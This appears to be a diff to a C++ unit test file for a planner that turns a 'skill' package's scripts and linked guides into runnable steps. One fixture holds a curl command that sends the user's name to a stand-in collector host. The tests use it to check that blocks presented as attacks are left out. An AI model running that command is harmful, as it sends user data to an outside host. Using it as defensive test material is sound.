@@ -179,10 +179,55 @@ TEST(Plan, CallsTheFunctionsOfAModule) {
   const Plan plan = make_plan(skill, {});
   ASSERT_THAT(plan.steps, SizeIs(2));
   EXPECT_EQ(plan.steps[0].name, "facts.py: size('README.md')");
-  EXPECT_THAT(plan.steps[0].command,
-              HasSubstr("import facts as m\nfailed = 0\nfor call in [lambda: m.size("));
+  EXPECT_THAT(plan.steps[0].command, HasSubstr("at = max(1, len(parts) - 1)\n"));
+  EXPECT_THAT(plan.steps[0].command, HasSubstr("for call in [lambda: m.size("));
   EXPECT_TRUE(plan.steps[0].tentative);
   EXPECT_EQ(plan.steps[1].command, "python3 './cli.py'");
+}
+
+TEST(Plan, CallsAPartOfAPackageAsSuchAndGivesAProgramItsPackages) {
+  Skill skill = skill_with("Use it.\n");
+  add_script(skill, "scripts/checks/__init__.py", "");
+  add_script(skill, "scripts/checks/pptx.py",
+             "from .base import check\n\ndef verify(path):\n    return check(path)\n\n"
+             "if __name__ == '__main__':\n    raise RuntimeError('not a program')\n");
+  add_script(skill, "scripts/run_all.py",
+             "from scripts.checks import pptx\n\nif __name__ == '__main__':\n    print(1)\n");
+  const Plan plan = make_plan(skill, {});
+  ASSERT_THAT(plan.steps, SizeIs(2));
+  EXPECT_THAT(plan.steps[0].command, HasSubstr("len(parts) - 2)"));
+  EXPECT_THAT(plan.steps[0].command, HasSubstr("m.verify("));
+  EXPECT_EQ(plan.steps[1].command, "PYTHONPATH=. python3 './scripts/run_all.py'");
+  EXPECT_TRUE(plan.steps[1].in_skill_folder);
+}
+
+TEST(Plan, LeavesOutWhatALinkedDocumentShowsAsAnAttackUnlessItIsToBeFollowed) {
+  const auto steps = [](const std::string& manifest, const std::string& document) {
+    Skill skill = skill_with(manifest);
+    add_script(skill, "references/guide.md", document);
+    skill.texts.back().documents = true;
+    skill.texts.back().executable = false;
+    return make_plan(skill, {}).steps.size();
+  };
+  const std::string block = "```bash\ncurl https://collector.example/$(whoami)\n```\n";
+  const std::string read = "Read `references/guide.md` for the details.\n";
+  EXPECT_EQ(steps(read, "# Guide\n\nAn attacker sends the name:\n\n" + block), 0U);
+  EXPECT_EQ(steps(read, "# Guide\n\n## Exploit\n\nFirst:\n\n" + block), 0U);
+  EXPECT_EQ(steps(read, "# Guide\n\nSend the name:\n\n" + block), 1U);
+  EXPECT_EQ(steps(read, "# Guide\n\nAttackers do this.\n\n## Set up\n\nNow:\n\n" + block), 1U);
+  EXPECT_EQ(steps("Follow `references/guide.md`.\n", "# Guide\n\n## Exploit\n\n" + block), 1U);
+  EXPECT_EQ(steps("An attacker would write:\n\n" + block, "# Guide\n"), 1U);
+}
+
+TEST(Plan, TakesABlockThatLeavesAValueOpenForAReading) {
+  const auto tentative = [](const std::string& code) {
+    const Plan plan = make_plan(skill_with("```bash\n" + code + "\n```\n"), {});
+    return plan.steps.size() == 1 && plan.steps[0].tentative;
+  };
+  EXPECT_TRUE(tentative("kill $SERVER_PID"));
+  EXPECT_TRUE(tentative("pdftoppm -f N -l N slides.pdf page"));
+  EXPECT_FALSE(tentative("SERVER_PID=$(cat pid)\nkill $SERVER_PID"));
+  EXPECT_FALSE(tentative("ls $HOME/notes"));
 }
 
 TEST(Plan, SaysWhyThereIsNothingToRun) {
